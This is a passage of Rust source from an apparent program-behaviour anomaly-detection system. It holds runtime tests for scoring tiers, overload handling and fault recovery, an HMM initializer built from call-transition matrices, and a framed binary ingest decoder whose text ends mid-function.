        let ring = Arc::new(RingSink::new(256));
        let tracer = Tracer::new(span_registry.clone(), ring.clone() as Arc<dyn SpanSink>);
        let mut runtime = MonitorRuntime::new(two_app_registry()).with_tracer(tracer);
        for e in trace_of(&["a", "b", "c_Q7", "a"]) {
            runtime.ingest(&TaggedCall {
                app: "bank".into(),
                session: "s-0".into(),
                event: e,
            });
        }
        runtime.finish();
        let events = ring.events();
        let stage = |path: &str| -> Vec<_> { events.iter().filter(|e| e.path == path).collect() };
        assert_eq!(stage("monitor/ingest").len(), 4);
        assert_eq!(stage("monitor/flush").len(), 1);
        let score = stage("monitor/score");
        assert_eq!(score.len(), 1);
        let ctx = score[0].context.as_ref().expect("score span has context");
        assert_eq!((ctx.app.as_str(), ctx.session.as_str()), ("bank", "s-0"));
        assert_eq!((ctx.epoch, ctx.batch), (1, 1));
        let commit = stage("monitor/commit");
        assert_eq!(commit.len(), 1);
        assert_eq!(commit[0].context, score[0].context);
        // Span durations also landed in the tracer's registry.
        assert_eq!(span_registry.histogram("span.monitor/ingest").count(), 4);
    }

    #[test]
    fn stage_histograms_populate_under_a_live_registry() {
        let obs = Registry::new();
        let mut runtime = MonitorRuntime::new(two_app_registry()).with_registry(&obs);
        let stream = interleave(&demo_sessions(), 0xBEEF);
        runtime.ingest_stream(&stream);
        runtime.finish();
        let events: u64 = demo_sessions().iter().map(|(_, _, t)| t.len() as u64).sum();
        assert_eq!(obs.histogram("monitor.stage.ingest_ns").count(), events);
        assert_eq!(
            obs.histogram("monitor.stage.score_ns").count(),
            demo_sessions().len() as u64
        );
        assert_eq!(
            obs.histogram("monitor.stage.commit_ns").count(),
            demo_sessions().len() as u64
        );
        assert_eq!(
            obs.histogram("monitor.stage.finalize_ns").count(),
            demo_sessions().len() as u64
        );
        assert_eq!(
            obs.snapshot().gauge("monitor.flush.batch_sessions"),
            Some(demo_sessions().len() as i64)
        );
    }

    #[test]
    fn swap_fault_panic_retries_on_the_pinned_epoch() {
        quiet_injected_panics();
        let obs = Registry::new();
        let registry = ProfileRegistry::new().with_kernel(KernelConfig::Sparse {
            sparse: adprom_hmm::SparseConfig::default(),
        });
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let profiles = Arc::new(registry);
        let injector = FaultPlan::new(11)
            .inject(
                sites::MONITOR_SWAP,
                FaultKind::Panic,
                Trigger::OnceForKeys([0u64].into()),
            )
            .arm();
        let trace = trace_of(&["a", "b", "c_Q7", "a", "b", "c_Q7"]);
        let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
            .with_registry(&obs)
            .with_faults(&injector);
        for e in &trace {
            runtime.ingest(&TaggedCall {
                app: "bank".into(),
                session: "s-0".into(),
                event: e.clone(),
            });
        }
        // Swap lands while s-0's batch is still buffered; the injected
        // panic then kills the first flush attempt. The retry must score
        // on epoch 1 — the pinned scorer — not re-resolve epoch 2.
        profiles
            .register("bank", cyclic_profile("bank", 0.0))
            .unwrap();
        let reports = runtime.finish();
        assert_eq!(injector.injected(sites::MONITOR_SWAP), 1);
        assert_eq!(reports[0].epoch, 1);
        assert_eq!(reports[0].verdict, Flag::Normal, "epoch-1 threshold");
        assert_eq!(reports[0].kernel.effective, "sparse");
        let snap = obs.snapshot();
        assert_eq!(snap.counter("resilience.worker_panics"), Some(1));
        assert_eq!(snap.counter("resilience.traces_recovered"), Some(1));
        assert_eq!(profiles.health("bank").unwrap().state(), Health::Degraded);
    }

    #[test]
    fn tier_ladder_demotes_escalates_and_pins_under_budget_pressure() {
        let obs = Registry::new();
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let profiles = Arc::new(registry);
        let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
            .with_registry(&obs)
            .with_config(RuntimeConfig {
                mode: ScoringMode::Incremental,
                overload: OverloadConfig {
                    budget: 6,
                    ..OverloadConfig::default()
                },
                ..RuntimeConfig::default()
            });
        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        // Flush 1: all three sessions are inside their first window — the
        // new-session prior holds every one at the full tier, and nine
        // pending events over a budget of six open an overload episode.
        for s in ["s-0", "s-1", "s-2"] {
            for name in ["a", "b", "c_Q7"] {
                runtime.ingest(&tag(s, name));
            }
        }
        runtime.flush();
        assert_eq!(profiles.health("bank").unwrap().state(), Health::Degraded);
        // Flush 2: margins are identical (same benign first window), so
        // ties break by arrival and the budget walk demotes s-2 to the
        // beam tier — where its out-of-context call alarms and the
        // session escalates itself back to full mid-flush.
        for s in ["s-0", "s-1"] {
            for name in ["a", "b", "c_Q7"] {
                runtime.ingest(&tag(s, name));
            }
        }
        for name in ["a", "evil_exfil", "c_Q7"] {
            runtime.ingest(&tag("s-2", name));
        }
        runtime.flush();
        // Flush 3: the alarmed session is pinned at full regardless of
        // rank, and three pending events fit the budget — recovery.
        for s in ["s-0", "s-1", "s-2"] {
            runtime.ingest(&tag(s, "a"));
        }
        let reports = runtime.finish();
        let s2 = reports.iter().find(|r| r.session == "s-2").unwrap();
        assert_eq!(
            s2.tiers,
            vec![
                ScoringTier::Full,
                ScoringTier::BeamPruned,
                ScoringTier::Full
            ]
        );
        assert_eq!(s2.tier, ScoringTier::Full);
        assert!(s2.escalations >= 1, "beam-tier alarm must escalate");
        assert!(s2.alarms().count() >= 1, "the exfil window still alarms");
        for report in reports.iter().filter(|r| r.session != "s-2") {
            assert_eq!(report.verdict, Flag::Normal);
            assert_eq!(report.escalations, 0);
            assert_eq!(report.tiers.len(), 3);
        }
        let snap = obs.snapshot();
        assert!(snap.counter("monitor.tier.escalations").unwrap() >= 1);
        assert_eq!(snap.counter("monitor.tier.full.assigned"), Some(8));
        assert_eq!(snap.counter("monitor.tier.beam.assigned"), Some(1));
        assert_eq!(snap.counter("monitor.tier.spot.assigned"), Some(0));
        // The episode opened once (flushes 1–2 were one continuous
        // overload) and closed when flush 3 fit the budget.
        assert_eq!(snap.counter("monitor.overload.episodes"), Some(1));
        assert_eq!(snap.gauge("monitor.overload.active"), Some(0));
    }

    #[test]
    fn drop_newest_sheds_only_demoted_benign_traffic() {
        let obs = Registry::new();
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let mut runtime = MonitorRuntime::new(Arc::new(registry))
            .with_registry(&obs)
            .with_config(RuntimeConfig {
                mode: ScoringMode::Incremental,
                overload: OverloadConfig {
                    capacity: 6,
                    shed_policy: ShedPolicy::DropNewest,
                    budget: 3,
                    ..OverloadConfig::default()
                },
                ..RuntimeConfig::default()
            });
        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        // Two flushes establish margins; the second demotes s-1 (equal
        // margin, later arrival) to the spot tier under budget 3.
        for _ in 0..2 {
            for s in ["s-0", "s-1"] {
                for name in ["a", "b", "c_Q7"] {
                    assert_eq!(runtime.ingest(&tag(s, name)), IngestStatus::Admitted);
                }
            }
            runtime.flush();
        }
        // Fill the queue to its hard bound...
        for name in ["a", "b", "c_Q7", "a", "b", "c_Q7"] {
            assert_eq!(runtime.ingest(&tag("s-0", name)), IngestStatus::Admitted);
        }
        assert_eq!(runtime.pending(), 6);
        // ...a benign event for the demoted session is shed (counted,
        // never scored, queue still at the bound)...
        assert_eq!(runtime.ingest(&tag("s-1", "a")), IngestStatus::Shed);
        assert_eq!(runtime.pending(), 6);
        // ...but a dangerous (DDG-labeled) event for the same demoted
        // session must not be lost: it falls back to the backpressure
        // flush and is admitted.
        assert_eq!(
            runtime.ingest(&tag("s-1", "c_Q7")),
            IngestStatus::Backpressured
        );
        assert_eq!(runtime.pending(), 1);
        let reports = runtime.finish();
        let s1 = reports.iter().find(|r| r.session == "s-1").unwrap();
        // The shed event still counted toward the session's event total.
        assert_eq!(s1.events, 8);
        let snap = obs.snapshot();
        assert_eq!(snap.counter("monitor.shed.events"), Some(1));
        assert_eq!(snap.counter("monitor.backpressure.flushes"), Some(1));
        assert_eq!(snap.gauge("monitor.queue.depth"), Some(6));
    }

    #[test]
    fn hard_capacity_bound_holds_via_backpressure() {
        let obs = Registry::new();
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let mut runtime = MonitorRuntime::new(Arc::new(registry))
            .with_registry(&obs)
            .with_config(RuntimeConfig {
                overload: OverloadConfig {
                    capacity: 4,
                    ..OverloadConfig::default()
                },
                ..RuntimeConfig::default()
            });
        let mut backpressured = 0;
        for i in 0..10 {
            let status = runtime.ingest(&TaggedCall {
                app: "bank".into(),
                session: "s-0".into(),
                event: event(["a", "b", "c_Q7"][i % 3], "main"),
            });
            if status == IngestStatus::Backpressured {
                backpressured += 1;
            }
            assert!(runtime.pending() <= 4, "hard bound breached at event {i}");
        }
        // Events 5 and 9 arrive with four already pending: each pays one
        // synchronous flush and is then admitted.
        assert_eq!(backpressured, 2);
        let snap = obs.snapshot();
        assert_eq!(snap.counter("monitor.backpressure.flushes"), Some(2));
        assert_eq!(snap.gauge("monitor.queue.depth"), Some(4));
        runtime.finish();
    }

    #[test]
    fn failed_session_closes_without_poisoning_the_stream() {
        quiet_injected_panics();
        let profiles = two_app_registry();
        let injector = FaultPlan::new(13)
            .inject(sites::MONITOR_SWAP, FaultKind::Panic, Trigger::Always)
            .arm();
        let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
            .with_faults(&injector)
            .with_retry(RetryPolicy {
                max_retries: 1,
                backoff: std::time::Duration::ZERO,
                watchdog: None,
            });
        // Trigger::Always panics every flush attempt: retries cannot save
        // this session.
        runtime.ingest(&TaggedCall {
            app: "bank".into(),
            session: "s-dead".into(),
            event: event("a", "main"),
        });
        let reports = runtime.finish();
        assert!(matches!(reports[0].end, SessionEnd::Failed(_)));
        assert!(reports[0].alerts.is_empty());
        assert_eq!(reports[0].verdict, Flag::Normal);
        assert_eq!(profiles.health("bank").unwrap().state(), Health::Failed);
    }
}
