//! HMM initialization from the pCTM (§IV-C4).
//!
//! Two regimes, exactly as the paper describes:
//!
//! * **one-to-one** — each non-virtual call label becomes one hidden state;
//!   the state emits its own call (near-deterministically after smoothing)
//!   and transitions follow the pCTM rows;
//! * **clustered** — for programs with many states (the paper uses 900 as
//!   the cutoff) each call's *call-transition vector* (CTV — its pCTM
//!   column concatenated with its row, length 2n) is PCA-reduced and
//!   k-means-clustered (K = `cluster_fraction`·n, paper: 0.3). Calls in one
//!   cluster share a hidden state whose transition and emission rows are
//!   the member averages.
//!
//! π is initialized from each state's total incoming pCTM mass (an estimate
//! of the stationary distribution) because detection windows start at
//! arbitrary points of the run, not at program entry; Baum–Welch then
//! adjusts it.

use crate::alphabet::Alphabet;
use adprom_analysis::{CallLabel, Ctm};
use adprom_hmm::Hmm;
use adprom_ml::{kmeans, Matrix, Pca};

/// Initialization configuration.
#[derive(Debug, Clone)]
pub struct InitConfig {
    /// State-count cutoff above which clustering kicks in (paper: 900).
    pub reduction_threshold: usize,
    /// K as a fraction of the call count (paper: 0.3).
    pub cluster_fraction: f64,
    /// PCA variance retained before clustering.
    pub pca_variance: f64,
    /// Smoothing floor for the initialized model.
    pub smoothing: f64,
    /// Seed for k-means.
    pub seed: u64,
}

impl Default for InitConfig {
    fn default() -> InitConfig {
        InitConfig {
            reduction_threshold: 900,
            cluster_fraction: 0.3,
            pca_variance: 0.95,
            smoothing: 1e-4,
            seed: 0xC7A1,
        }
    }
}

/// What the initializer produced.
#[derive(Debug, Clone)]
pub struct InitializedModel {
    /// The initialized (untrained) HMM.
    pub hmm: Hmm,
    /// For clustered models, the cluster id of every alphabet symbol
    /// (identity for one-to-one models). `<unk>` maps to its own state in
    /// one-to-one mode and to the last cluster otherwise.
    pub state_of_symbol: Vec<usize>,
    /// True if CTV/PCA/k-means reduction was applied.
    pub reduced: bool,
    /// Hidden-state count before reduction (== call count).
    pub states_before: usize,
}

/// Builds the call-transition vector (CTV) of every non-virtual label: the
/// concatenation of the label's pCTM column (transition-from probabilities)
/// and row (transition-to probabilities), each of length `dim`.
pub fn build_ctvs(pctm: &Ctm) -> (Vec<String>, Matrix) {
    let dim = pctm.dim();
    let labels: Vec<(usize, String)> = pctm
        .labels()
        .iter()
        .enumerate()
        .filter(|(_, l)| !l.is_virtual())
        .map(|(i, l)| (i, l.name().to_string()))
        .collect();
    let rows: Vec<Vec<f64>> = labels
        .iter()
        .map(|(i, _)| {
            let mut v = Vec::with_capacity(2 * dim);
            // Column: transitions *into* this call.
            for r in 0..dim {
                v.push(pctm.at(r, *i));
            }
            // Row: transitions *out of* this call.
            for c in 0..dim {
                v.push(pctm.at(*i, c));
            }
            v
        })
        .collect();
    (
        labels.into_iter().map(|(_, name)| name).collect(),
        Matrix::from_rows(&rows),
    )
}

/// Initializes an HMM from the pCTM over the given alphabet.
pub fn init_from_pctm(pctm: &Ctm, alphabet: &Alphabet, config: &InitConfig) -> InitializedModel {
    let m = alphabet.len();
    let call_count = m - 1; // excluding <unk>
    let reduce = call_count > config.reduction_threshold;

    // pCTM index of each alphabet symbol (None for symbols that only appear
    // in traces, e.g. dynamic-only labels — they behave like weak states).
    let pctm_index: Vec<Option<usize>> = alphabet
        .symbols()
        .iter()
        .map(|s| pctm.index_of(&CallLabel::Lib(s.clone())))
        .collect();

    // Raw symbol-to-symbol transition mass lifted from the pCTM.
    let mass = |a: usize, b: usize| -> f64 {
        match (pctm_index[a], pctm_index[b]) {
            (Some(i), Some(j)) => pctm.at(i, j),
            _ => 0.0,
        }
    };
    let inflow = |a: usize| -> f64 {
        match pctm_index[a] {
            Some(i) => (0..pctm.dim()).map(|r| pctm.at(r, i)).sum(),
            None => 0.0,
        }
    };

    let (state_of_symbol, n_states) = if reduce {
        let (ctv_labels, ctvs) = build_ctvs(pctm);
        // Exact Jacobi PCA is O(dims³); CTVs have 2·(pCTM dim) columns, so
        // past a few hundred dimensions switch to subspace iteration with a
        // capped component count.
        let pca = if ctvs.cols() > 256 {
            Pca::fit_truncated(&ctvs, 64, 8, config.seed)
        } else {
            Pca::fit(&ctvs, config.pca_variance)
        };
        let reduced_data = pca.transform(&ctvs);
        let k = ((call_count as f64 * config.cluster_fraction).ceil() as usize).max(1);
        let km = kmeans(&reduced_data, k, config.seed, 100);
        // Map alphabet symbols to clusters via the CTV label order; symbols
        // absent from the pCTM (and <unk>) go to a dedicated extra state.
        let extra = km.k();
        let mut state_of = vec![extra; m];
        for (row, name) in ctv_labels.iter().enumerate() {
            if alphabet.contains(name) {
                state_of[alphabet.encode(name)] = km.assignment[row];
            }
        }
        (state_of, extra + 1)
    } else {
        // One-to-one: symbol i ↔ state i (including <unk> as its own state).
        ((0..m).collect(), m)
    };

    // Accumulate A, B, π over states.
    let n = n_states;
    let mut a = vec![vec![0.0f64; n]; n];
    let mut b = vec![vec![0.0f64; m]; n];
    let mut pi = vec![0.0f64; n];
    for s in 0..m {
        let st = state_of_symbol[s];
        // Emission: each member symbol contributes its share.
        b[st][s] += 1.0;
        pi[st] += inflow(s);
        for t in 0..m {
            a[state_of_symbol[s]][state_of_symbol[t]] += mass(s, t);
        }
    }

    let mut hmm = Hmm::from_rows(normalize_rows(a), normalize_rows(b), normalize_vec(pi));
    hmm.smooth(config.smoothing);

    InitializedModel {
        hmm,
        state_of_symbol,
        reduced: reduce,
        states_before: call_count,
    }
}

fn normalize_rows(mut m: Vec<Vec<f64>>) -> Vec<Vec<f64>> {
    for row in &mut m {
        adprom_hmm::normalize(row);
    }
    m
}

fn normalize_vec(mut v: Vec<f64>) -> Vec<f64> {
    adprom_hmm::normalize(&mut v);
    v
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_analysis::analyze;
    use adprom_lang::parse_program;

    fn setup(src: &str) -> (Ctm, Alphabet) {
        let prog = parse_program(src).unwrap();
        let analysis = analyze(&prog);
        let alphabet = Alphabet::new(analysis.observation_labels());
        (analysis.pctm, alphabet)
    }

    #[test]
    fn one_to_one_init_prefers_static_transitions() {
        let (pctm, alphabet) =
            setup("fn main() { PQexec(c, \"SELECT 1\"); PQntuples(r); printf(\"%d\", n); }");
        let init = init_from_pctm(&pctm, &alphabet, &InitConfig::default());
        assert!(!init.reduced);
        assert_eq!(init.hmm.n_states(), alphabet.len());
        // The statically-known next call dominates the transition row.
        let s_exec = alphabet.encode("PQexec");
        let s_nt = alphabet.encode("PQntuples");
        let s_pf = alphabet.encode("printf");
        assert!(init.hmm.a(s_exec, s_nt) > 0.9);
        assert!(init.hmm.a(s_nt, s_pf) > 0.9);
        assert!(init.hmm.a(s_exec, s_pf) < 0.05);
        // Emissions are near-one-hot.
        assert!(init.hmm.b(s_exec, s_exec) > 0.99);
    }

    #[test]
    fn model_is_stochastic_and_smoothed() {
        let (pctm, alphabet) =
            setup("fn main() { if (x) { puts(\"a\"); } else { printf(\"b\"); } putchar(1); }");
        let init = init_from_pctm(&pctm, &alphabet, &InitConfig::default());
        init.hmm.validate().unwrap();
        // Smoothing left no exact zeros.
        assert!(init.hmm.a_rows().all(|row| row.iter().all(|&v| v > 0.0)));
    }

    #[test]
    fn reduction_kicks_in_above_threshold() {
        let (pctm, alphabet) =
            setup("fn main() { puts(\"a\"); printf(\"b\"); putchar(1); fputs(\"c\", f); }");
        let config = InitConfig {
            reduction_threshold: 2, // force clustering
            cluster_fraction: 0.5,
            ..InitConfig::default()
        };
        let init = init_from_pctm(&pctm, &alphabet, &config);
        assert!(init.reduced);
        assert!(
            init.hmm.n_states() < alphabet.len(),
            "states {} < symbols {}",
            init.hmm.n_states(),
            alphabet.len()
        );
        // Every symbol has a state.
        assert_eq!(init.state_of_symbol.len(), alphabet.len());
        assert!(init
            .state_of_symbol
            .iter()
            .all(|&s| s < init.hmm.n_states()));
    }

    #[test]
    fn ctvs_have_expected_shape() {
        let (pctm, _) = setup("fn main() { puts(\"a\"); printf(\"b\"); }");
        let (labels, ctvs) = build_ctvs(&pctm);
        assert_eq!(labels.len(), 2);
        assert_eq!(ctvs.rows(), 2);
        assert_eq!(ctvs.cols(), 2 * pctm.dim());
    }

    #[test]
    fn clustered_emissions_average_members() {
        let (pctm, alphabet) =
            setup("fn main() { puts(\"a\"); puts(\"b\"); printf(\"c\"); putchar(1); }");
        let config = InitConfig {
            reduction_threshold: 1,
            cluster_fraction: 0.4,
            ..InitConfig::default()
        };
        let init = init_from_pctm(&pctm, &alphabet, &config);
        // Rows of B are distributions.
        for row in init.hmm.b_rows() {
            assert!((row.iter().sum::<f64>() - 1.0).abs() < 1e-9);
        }
    }
}
