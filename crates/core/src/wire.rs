//! Compact binary ingest format for the sharded monitoring service.
//!
//! A collector agent ships `(app, session, event)` records to the monitor
//! as length-framed batches, reusing the WAL framing discipline proven by
//! [`DurableAuditSink`](adprom_obs::DurableAuditSink) — a textual
//! `{len} {crc32} ` prefix guarding an opaque payload — with two service
//! adaptations: a 4-byte magic (`ADP1`) in front of the prefix so a
//! decoder can resynchronize past a corrupt frame instead of truncating
//! at it, and a binary payload (the WAL carries JSONL).
//!
//! ## Frame layout
//!
//! ```text
//! offset  size  field
//! ------  ----  -----------------------------------------------------
//!      0     4  magic "ADP1" (format version folded into the last byte)
//!      4     8  payload length, 8 ASCII hex digits (lowercase)
//!     12     1  ' '
//!     13     8  CRC-32 (IEEE) of the payload, 8 ASCII hex digits
//!     21     1  ' '
//!     22   len  payload (binary, see below)
//! 22+len     1  '\n' frame terminator
//! ```
//!
//! ## Payload layout (all integers little-endian)
//!
//! ```text
//! u32               record count
//! per record:
//!   u16 + bytes     app id (UTF-8)
//!   u16 + bytes     session id
//!   u16 + bytes     observation name (raw call name or DDG label)
//!   u8              library call, as an index into LibCall::ALL
//!   u16 + bytes     caller function
//!   u32             call site id
//!   u8              detail flag (0 = none, 1 = present)
//!   [u16 + bytes]   detail payload, when the flag is 1
//! ```
//!
//! ## Decoding discipline
//!
//! [`FrameDecoder`] walks a buffer front to back, yielding one
//! `Ok(Vec<WireRecord>)` per valid frame. Record fields borrow straight
//! out of the buffer (`&str` slices — the decoder never copies payload
//! bytes), so a shard can screen and route a batch before allocating
//! anything for it. Any frame that fails validation — bad magic, torn
//! header, length past the buffer, CRC mismatch, or a payload that does
//! not parse — yields one `Err(`[`FrameDefect`]`)` and the decoder
//! *resynchronizes*: it scans for the next magic and continues, so a
//! single corrupt frame is quarantined without poisoning the frames
//! behind it. (The WAL's recovery scan truncates at the first bad frame
//! instead; an append-only log wants the clean-prefix guarantee, a wire
//! decoder wants maximum salvage.) Defective frames are *reported*, never
//! silently skipped — the service routes them through the same
//! quarantine accounting as [`TraceValidator`](adprom_trace::TraceValidator).

use adprom_lang::{CallSiteId, LibCall};
use adprom_obs::crc32;
use adprom_trace::{CallEvent, TaggedCall};
use std::fmt;

/// Frame magic: `ADP` + format version `1`.
pub const WIRE_MAGIC: &[u8; 4] = b"ADP1";

/// Byte length of the frame header: magic + `llllllll cccccccc `.
pub const WIRE_HEADER: usize = 4 + 18;

/// Why one frame (or its payload) failed to decode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WireError {
    /// The bytes at the frame boundary are not [`WIRE_MAGIC`] — garbage
    /// between frames, or a corrupted magic.
    BadMagic,
    /// The 18-byte `{len} {crc} ` prefix after the magic is malformed
    /// (non-hex digits or missing separators).
    BadHeader,
    /// The header's payload length (plus terminator) runs past the end
    /// of the buffer — a torn tail or a corrupted length field.
    Truncated,
    /// The frame is missing its `\n` terminator.
    BadTerminator,
    /// The payload's CRC-32 does not match the header.
    CrcMismatch {
        /// CRC the header claims.
        expected: u32,
        /// CRC of the payload bytes actually present.
        actual: u32,
    },
    /// The payload passed its CRC but does not parse as a record batch
    /// (an encoder/decoder version skew, never in-flight corruption).
    BadPayload(&'static str),
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::BadMagic => write!(f, "bad frame magic"),
            WireError::BadHeader => write!(f, "malformed frame header"),
            WireError::Truncated => write!(f, "frame truncated"),
            WireError::BadTerminator => write!(f, "missing frame terminator"),
            WireError::CrcMismatch { expected, actual } => {
                write!(
                    f,
                    "payload CRC mismatch (header {expected:08x}, payload {actual:08x})"
                )
            }
            WireError::BadPayload(reason) => write!(f, "bad payload: {reason}"),
        }
    }
}

/// One frame the decoder could not validate: where it started and why it
/// was rejected. The decoder has already resynchronized past it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FrameDefect {
    /// Byte offset (into the decoded buffer) where the bad frame began.
    pub offset: usize,
    /// What failed.
    pub reason: WireError,
}

/// One `(app, session, event)` record, borrowed zero-copy from the
/// frame buffer. Convert with [`WireRecord::to_tagged`] once the record
/// passes screening.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WireRecord<'a> {
    /// Application id.
    pub app: &'a str,
    /// Session id.
    pub session: &'a str,
    /// Observation name (raw call name, or DDG label like `printf_Q6`).
    pub name: &'a str,
    /// The underlying library call.
    pub call: LibCall,
    /// The function that issued the call.
    pub caller: &'a str,
    /// Call site id.
    pub site: u32,
    /// Optional extension payload (query signature, file path, …).
    pub detail: Option<&'a str>,
}

impl WireRecord<'_> {
    /// Materializes the record as a [`TaggedCall`] (the only allocating
    /// step of the ingest path).
    pub fn to_tagged(&self) -> TaggedCall {
        TaggedCall {
            app: self.app.to_string(),
            session: self.session.to_string(),
            event: CallEvent {
                name: self.name.into(),
                call: self.call,
                caller: self.caller.into(),
                site: CallSiteId(self.site),
                detail: self.detail.map(str::to_string),
            },
        }
    }
}

fn push_str(out: &mut Vec<u8>, s: &str) {
    let len = u16::try_from(s.len()).expect("wire strings are shorter than 64 KiB");
    out.extend_from_slice(&len.to_le_bytes());
    out.extend_from_slice(s.as_bytes());
}

/// Encodes one batch of tagged events as a single frame, appended to
/// `out`. An empty batch is a valid (heartbeat) frame.
pub fn encode_frame_into(batch: &[TaggedCall], out: &mut Vec<u8>) {
    let mut payload = Vec::with_capacity(32 * batch.len() + 4);
    payload.extend_from_slice(
        &u32::try_from(batch.len())
            .expect("batch fits u32")
            .to_le_bytes(),
    );
    for tagged in batch {
        push_str(&mut payload, &tagged.app);
        push_str(&mut payload, &tagged.session);
        push_str(&mut payload, &tagged.event.name);
        // LibCall is fieldless and ALL is in declaration order, so the
        // discriminant doubles as the table index.
        payload.push(tagged.event.call as u8);
        push_str(&mut payload, &tagged.event.caller);
        payload.extend_from_slice(&tagged.event.site.0.to_le_bytes());
        match &tagged.event.detail {
            Some(detail) => {
                payload.push(1);
                push_str(&mut payload, detail);
            }
            None => payload.push(0),
        }
    }
    out.extend_from_slice(WIRE_MAGIC);
    out.extend_from_slice(format!("{:08x} {:08x} ", payload.len(), crc32(&payload)).as_bytes());
    out.extend_from_slice(&payload);
    out.push(b'\n');
}

/// Encodes one batch as a standalone frame buffer.
pub fn encode_frame(batch: &[TaggedCall]) -> Vec<u8> {
    let mut out = Vec::new();
    encode_frame_into(batch, &mut out);
    out
}

/// Encodes a stream as consecutive frames of at most `batch_size` events
/// (`batch_size = 0` puts everything in one frame).
pub fn encode_stream(stream: &[TaggedCall], batch_size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    if batch_size == 0 {
        encode_frame_into(stream, &mut out);
    } else {
        for chunk in stream.chunks(batch_size) {
            encode_frame_into(chunk, &mut out);
        }
    }
    out
}

/// Reads `u16 len + bytes` as a borrowed `&str`, advancing `pos`.
fn read_str<'a>(buf: &'a [u8], pos: &mut usize) -> Result<&'a str, &'static str> {
    let end = pos
        .checked_add(2)
        .filter(|&e| e <= buf.len())
        .ok_or("string length torn")?;
    let len = u16::from_le_bytes([buf[*pos], buf[*pos + 1]]) as usize;
    *pos = end;
    let end = pos
        .checked_add(len)
        .filter(|&e| e <= buf.len())
        .ok_or("string runs past payload")?;
    let s = std::str::from_utf8(&buf[*pos..end]).map_err(|_| "string is not UTF-8")?;
    *pos = end;
    Ok(s)
}

/// Decodes one CRC-validated payload into records.
fn decode_payload(payload: &[u8]) -> Result<Vec<WireRecord<'_>>, &'static str> {
    if payload.len() < 4 {
        return Err("payload shorter than the record count");
    }
    let count = u32::from_le_bytes(payload[0..4].try_into().expect("4 bytes")) as usize;
    let mut pos = 4;
    let mut records = Vec::with_capacity(count.min(payload.len() / 8 + 1));
    for _ in 0..count {
        let app = read_str(payload, &mut pos)?;
        let session = read_str(payload, &mut pos)?;
        let name = read_str(payload, &mut pos)?;
        let call_index = *payload.get(pos).ok_or("call index torn")? as usize;
        pos += 1;
        let call = *LibCall::ALL.get(call_index).ok_or("unknown call index")?;
        let caller = read_str(payload, &mut pos)?;
        let end = pos
            .checked_add(4)
            .filter(|&e| e <= payload.len())
            .ok_or("site id torn")?;
        let site = u32::from_le_bytes(payload[pos..end].try_into().expect("4 bytes"));
        pos = end;
        let flag = *payload.get(pos).ok_or("detail flag torn")?;
        pos += 1;
        let detail = match flag {
            0 => None,
            1 => Some(read_str(payload, &mut pos)?),
            _ => return Err("detail flag is neither 0 nor 1"),
        };
        records.push(WireRecord {
            app,
            session,
            name,
            call,
            caller,
            site,
            detail,
        });
    }
    if pos != payload.len() {
        return Err("trailing bytes after the last record");
    }
    Ok(records)
}

/// Finds the next [`WIRE_MAGIC`] occurrence at or after `from`.
fn find_magic(buf: &[u8], from: usize) -> Option<usize> {
    if from >= buf.len() {
        return None;
    }
    buf[from..]
        .windows(WIRE_MAGIC.len())
        .position(|w| w == WIRE_MAGIC)
        .map(|i| from + i)
}

/// Zero-copy streaming decoder over a frame buffer. See the module docs
/// for the resynchronization discipline.
#[derive(Debug, Clone)]
pub struct FrameDecoder<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> FrameDecoder<'a> {
    /// A decoder positioned at the start of `buf`.
    pub fn new(buf: &'a [u8]) -> FrameDecoder<'a> {
        FrameDecoder { buf, pos: 0 }
    }

    /// Current byte offset (start of the next frame candidate).
    pub fn offset(&self) -> usize {
        self.pos
    }

    /// Rejects the frame at `at` and repositions at the next magic after
    /// it (or the end of the buffer).
    fn quarantine(&mut self, at: usize, reason: WireError) -> FrameDefect {
        self.pos = find_magic(self.buf, at + 1).unwrap_or(self.buf.len());
        FrameDefect { offset: at, reason }
    }

    /// Attempts to decode the frame starting exactly at `self.pos`
    /// (magic already verified). On success advances past the frame.
    fn decode_at(&mut self) -> Result<Vec<WireRecord<'a>>, FrameDefect> {
        let at = self.pos;
        let header = &self.buf[at..];
        if header.len() < WIRE_HEADER {
            return Err(self.quarantine(at, WireError::Truncated));
        }
        let prefix = &header[4..WIRE_HEADER];
        if prefix[8] != b' ' || prefix[17] != b' ' {
            return Err(self.quarantine(at, WireError::BadHeader));
        }
        // Strict canonical hex: exactly the lowercase digits the encoder
        // emits. `from_str_radix` would also accept uppercase and a
        // leading `+`, which would let some single-byte header
        // corruptions alias back to a valid parse — the corruption
        // proptest requires every flipped byte to be detected.
        let hex = |bytes: &[u8]| -> Option<u32> {
            let mut value: u32 = 0;
            for &b in bytes {
                let digit = match b {
                    b'0'..=b'9' => b - b'0',
                    b'a'..=b'f' => b - b'a' + 10,
                    _ => return None,
                };
                value = (value << 4) | u32::from(digit);
            }
            Some(value)
        };
        let (len, crc) = match (hex(&prefix[0..8]), hex(&prefix[9..17])) {
            (Some(len), Some(crc)) => (len as usize, crc),
            _ => return Err(self.quarantine(at, WireError::BadHeader)),
        };
        let payload_start = at + WIRE_HEADER;
        let frame_end = match payload_start.checked_add(len) {
            Some(end) if end < self.buf.len() => end, // end itself is the terminator index
            Some(end) if end == self.buf.len() => {
                return Err(self.quarantine(at, WireError::BadTerminator));
            }
            _ => return Err(self.quarantine(at, WireError::Truncated)),
        };
        if self.buf[frame_end] != b'\n' {
